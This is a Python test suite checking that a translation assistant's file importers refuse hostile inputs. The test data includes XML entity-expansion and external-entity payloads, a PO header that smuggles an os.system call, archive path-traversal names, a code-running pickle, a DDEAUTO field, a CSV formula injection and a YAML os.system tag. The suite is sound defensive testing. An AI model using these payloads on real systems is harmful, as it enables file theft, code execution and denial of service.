"""Files made to do harm: every one is refused with a sentence, nothing of it runs, and nothing is written elsewhere."""

from __future__ import annotations

import io
import pickle
import stat
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from fuzzing.files import METADATA, PO, TBX, TMX, XLIFF

from assistant.catalogue import load
from assistant.documents.docx import SHIPPED, BrokenTemplate, lacking
from assistant.importing.faults import ImportFault
from assistant.importing.files import read_rows
from assistant.importing.mapping import mappings, read_mapping
from assistant.recordings.media import LARGEST, NotASound, TooLarge, media_type_of
from assistant.understanding.languages import language as language_of
from translations.exchange.faults import BadExchangeFile
from translations.exchange.glossary import read_glossary
from translations.exchange.memory import read_memory
from translations.exchange.texts import read_texts
from translations.machine.installing import install

LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
READS = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://203.0.113.1/x.dtd"> %a;]>'


def _headed(xml: str, declared: str) -> bytes:
    body = xml.split("?>", 1)[1].replace('<!DOCTYPE tmx SYSTEM "tmx14.dtd">', "")
    return (
        f'<?xml version="1.0"?>{declared}{body}'.encode()
        .replace(b"</note>", b"&a;</note>")
        .replace(b"</seg>", b"&a;</seg>", 1)
    )


@pytest.mark.parametrize("declared", [LAUGHS, READS, OUTSIDE], ids=["laughs", "reads a file", "from elsewhere"])
@pytest.mark.parametrize("form", ["XLIFF", "TMX", "TBX"])
def test_xml_that_declares_things_is_refused_before_it_is_read(form: str, declared: str) -> None:
    xml = {"XLIFF": XLIFF, "TMX": TMX, "TBX": TBX}[form]
    with pytest.raises(BadExchangeFile):
        _read(form, _headed(xml, declared))


@pytest.mark.parametrize("form", ["XLIFF", "TMX", "TBX", ".po"])
@pytest.mark.parametrize(
    "data",
    [
        b"<a>" * 5_000,
        b"\x1f\x8b\x08\x00" + bytes(100),
        b"PK\x03\x04" + bytes(100),
        b"\xff\xfe<\x00x\x00",
        b"",
        b" " * 100,
        bytes(100),
        b'<?xml version="1.0" encoding="utf-7"?>+ADw-x+AD4-',
        b"x" * (20 * 1024 * 1024 + 1),
    ],
    ids=["deep", "gzip", "zip", "UTF-16", "empty", "spaces", "NUL", "UTF-7", "too large"],
)
def test_what_is_no_exchange_file_is_refused(form: str, data: bytes) -> None:
    with pytest.raises(BadExchangeFile):
        _read(form, data)


def _read(form: str, data: bytes) -> object:
    spoken = language_of("ti")
    reads: dict[str, Callable[[], object]] = {
        "XLIFF": lambda: read_texts("xliff", data, "f", spoken),
        "TMX": lambda: read_memory(data, "f", spoken),
        "TBX": lambda: read_glossary(data, "f", spoken),
        ".po": lambda: read_texts("po", data, "f", spoken),
    }
    return reads[form]()


HOSTILE_PO = tuple(
    PO.replace("Content-Type: text/plain; charset=UTF-8", header)
    for header in (
        "Plural-Forms: nplurals=2; plural=__import__('os').system('id');",
        "Plural-Forms: nplurals=99999999999; plural=n**n**n;",
        "Content-Type: text/plain; charset=rot13",
        "Content-Type: text/plain; charset=unicode_escape",
        "Content-Type: text/plain; charset=../../etc/passwd",
        "Content-Type: text/plain; charset=UTF-7",
        "Language: ../../etc/passwd",
        "X-Generator: {0.__class__.__mro__}",
    )
)


@pytest.mark.parametrize("text", HOSTILE_PO, ids=range(len(HOSTILE_PO)))
def test_a_header_of_a_po_file_is_never_computed_nor_opened(text: str) -> None:
    """Either the file is refused, or its words are exactly those that stand in it."""
    try:
        read = read_texts("po", text.encode(), "f", language_of("ti"))
    except BadExchangeFile as fault:
        assert "root:" not in str(fault)
        return
    assert [one.text for one in read] == ["ስደድ"]


@pytest.mark.parametrize(
    "entry",
    [
        'msgid "page.send\\x00"',
        'msgctxt "../../etc/passwd"\nmsgid "x"\nmsgstr "y"',
        'msgid "a"\nmsgid_plural "b"\nmsgstr[99999999999999999999] "c"',
        'msgid "a"\nmsgstr "' + "\\" * 50_001 + '"',
        "#, " + "fuzzy, " * 20_000,
        '#| msgid "' + "x" * 100_000,
        'msgctxt "page.send"\nmsgid "Verstuur"\nmsgstr "1"\n' * 3,
    ],
    ids=["NUL", "path as name", "plural without end", "escapes", "flags", "open string", "one name three times"],
)
def test_a_hostile_entry_of_a_po_file_is_refused_or_kept_as_words(entry: str) -> None:
    with suppress(BadExchangeFile):
        for one in read_texts("po", (PO + "\n" + entry.replace("\\n", "\n") + "\n").encode(), "f", language_of("ti")):
            assert isinstance(one.text, str)


def test_the_seeds_of_these_tests_are_good_files() -> None:
    for form, seed in (("XLIFF", XLIFF), ("TMX", TMX), ("TBX", TBX), (".po", PO)):
        assert _read(form, seed.encode())


class Runs:
    """A pickle that would leave a mark when it is loaded."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.touch, (self.mark,)


def package(folder: Path, files: dict[str, bytes], *, link: str = "") -> Path:
    path = folder / "hostile.argosmodel"
    whole = {
        "p/metadata.json": METADATA.encode(),
        "p/model/model.bin": b"x" * 100,
        "p/sentencepiece.model": b"junk",
        **files,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in whole.items():
            packed.writestr(name, body)
        if link:
            entry = zipfile.ZipInfo("p/README.md")
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            packed.writestr(entry, link)
    return path


@pytest.mark.parametrize(
    "name",
    [
        "../out.txt",
        "p/../../out.txt",
        "/tmp/out.txt",
        "p\\..\\out.txt",
        "C:/out.txt",
        "p/model/../../../out.txt",
        "p/x.py",
        "p/model/weights.pkl",
        "p/model/pytorch_model.pt",
        "p/libx.so",
        "p/setup.sh",
        "p/.hidden/x",
        "p/model/model.bin/x",
    ],
)
def test_a_package_with_what_does_not_belong_in_it_is_not_unpacked(tmp_path: Path, name: str) -> None:
    mark = tmp_path / "ran"
    made = package(tmp_path, {name: pickle.dumps(Runs(mark))})
    before = {one for one in tmp_path.rglob("*")}
    (outcome,) = install(made, tmp_path / "packages", loads=lambda folder: None)
    assert outcome.fault
    assert not mark.exists()
    left = {one.name for one in tmp_path.rglob("*") if one not in before}
    assert left <= {"packages", ".lock"}


@pytest.mark.parametrize(
    "kind", ["link", "same twice", "grows", "metadata is a pickle", "no package", "cut off", "many files"]
)
def test_a_package_that_lies_is_not_installed(tmp_path: Path, kind: str) -> None:
    mark = tmp_path / "ran"
    made = package(tmp_path, {})
    if kind == "link":
        made = package(tmp_path, {}, link="/etc/passwd")
    elif kind == "same twice":
        made = package(tmp_path, {"p/MODEL/model.bin": b"y"})
    elif kind == "grows":
        made = package(tmp_path, {"p/model/shared_vocabulary.txt": bytes(15_000_000)})
    elif kind == "metadata is a pickle":
        made = package(tmp_path, {"p/metadata.json": pickle.dumps(Runs(mark))})
    elif kind == "no package":
        made.write_bytes(pickle.dumps(Runs(mark)))
    elif kind == "cut off":
        made.write_bytes(made.read_bytes()[:-40])
    else:
        made = package(tmp_path, {f"p/{number}.txt": b"x" for number in range(600)})
    (outcome,) = install(made, tmp_path / "packages", loads=lambda folder: None)
    assert outcome.fault
    assert not mark.exists()
    assert not [one for one in (tmp_path / "packages").iterdir() if one.name != ".lock"]


def test_weights_that_are_junk_are_tried_in_a_process_of_their_own_and_refused(tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    made = package(
        tmp_path, {"p/model/model.bin": pickle.dumps(Runs(mark)), "p/sentencepiece.model": pickle.dumps(Runs(mark))}
    )
    (outcome,) = install(made, tmp_path / "packages")
    assert outcome.fault
    assert not mark.exists()


def template(folder: Path, change: Callable[[str, bytes], bytes | None], more: dict[str, bytes] | None = None) -> Path:
    made = folder / "sjabloon.docx"
    with zipfile.ZipFile(SHIPPED) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            body = change(name, old.read(name))
            if body is not None:
                new.writestr(name, body)
        for name, body in (more or {}).items():
            new.writestr(name, body)
    return made


def _into(part: str, mark: bytes, by: bytes) -> Callable[[str, bytes], bytes]:
    def change(name: str, body: bytes) -> bytes:
        if name != part:
            return body
        assert mark in body
        return body.replace(mark, by, 1)

    return change


FIELD = b'<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x.exe "a" </w:instrText></w:r></w:p></w:body>'
RELATION = (
    b'<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.1/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("change", "more"),
    [
        (_into("word/document.xml", b"<w:document", LAUGHS.encode() + b"<w:document"), {}),
        (_into("word/document.xml", b"<w:document", READS.encode() + b"<w:document"), {}),
        (_into("word/document.xml", b"</w:body>", FIELD), {}),
        (_into("word/_rels/document.xml.rels", b"</Relationships>", RELATION), {}),
        (lambda name, body: body, {"word/vbaProject.bin": b"x"}),
        (lambda name, body: body, {"word/embeddings/oleObject1.bin": b"x"}),
        (lambda name, body: body, {"word/media/a.png": bytes(60_000_000)}),
        (lambda name, body: None if name == "word/document.xml" else body, {}),
    ],
    ids=["laughs", "reads a file", "field", "fetches a template", "macro", "object", "bomb", "no text"],
)
def test_a_template_that_does_more_than_give_a_letterhead_is_refused(
    tmp_path: Path, change: Callable[[str, bytes], bytes | None], more: dict[str, bytes]
) -> None:
    with pytest.raises(BrokenTemplate) as refused:
        lacking(template(tmp_path, change, more))
    assert "sjabloon.docx" in str(refused.value)


def test_the_template_that_ships_is_good(tmp_path: Path) -> None:
    assert lacking(template(tmp_path, lambda name, body: body)) == ()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\x00",
        "a" * 5_000_001,
        '"open',
        "a;b\n" * 20_000,
        "[" * 100_000,
        "a\n=cmd|' /C calc'!A0\n",
        '{"a": ' * 30_000,
        "\ud800;x\n1;2",
    ],
    ids=["empty", "NUL", "too large", "open quote", "too many rows", "brackets", "formula", "deep", "half a character"],
)
@pytest.mark.parametrize("which", sorted(mappings(load())))
def test_an_import_that_is_no_good_file_is_refused(text: str, which: str) -> None:
    with pytest.raises(ImportFault):
        read_rows(text, mappings(load())[which])


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['id']",
        "a: &a [*a]",
        "[" * 10_000,
        "id: x\ntitle: x\nsource: x\nformat: [csv]\nfields: [1]",
        "id: x\ntitle: x\nsource: x\nformat: csv\nfields: [{column: a, question: [persoon.naam]}]",
        "id: x\ntitle: x\nsource: x\nformat: csv\nfields: [{column: a, question: {a: b}}]",
        "id: x\ntitle: x\nsource: x\nformat: csv\ndelimiter: ab\nfields: [{column: a, question: persoon.naam}]",
        "id: x\ntitle: x\nsource: x\nformat: csv\nfields: [{column: a, form: [a], field: b}]",
        "id: x\ntitle: x\nsource: x\nformat: csv\nfields: [{column: a, question: persoon.naam, values: [1]}]",
    ],
)
def test_a_mapping_that_is_no_mapping_is_refused(text: str) -> None:
    with pytest.raises(ImportFault):
        read_mapping(text, load())


@pytest.mark.parametrize(
    "sound",
    [
        b"",
        b"<script>" * 20,
        b"PK\x03\x04" + bytes(100),
        b"\x1f\x8b" + bytes(100),
        b"%PDF-1.7" + bytes(100),
        b"GIF89a" + bytes(100),
        b"OggS",
    ],
)
def test_what_is_no_sound_is_not_kept(sound: bytes) -> None:
    with pytest.raises(NotASound):
        media_type_of(sound)


def test_a_sound_without_end_is_not_kept() -> None:
    with pytest.raises(TooLarge):
        media_type_of(b"OggS" + bytes(LARGEST))


def test_a_zip_within_a_zip_is_only_bytes(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("x", bytes(50_000_000))
    (outcome,) = install(
        package(tmp_path, {"p/README.md": inner.getvalue()}), tmp_path / "packages", loads=lambda folder: None
    )
    assert outcome.fault is None
    assert sum(one.stat().st_size for one in (tmp_path / "packages").rglob("*") if one.is_file()) < 100_000
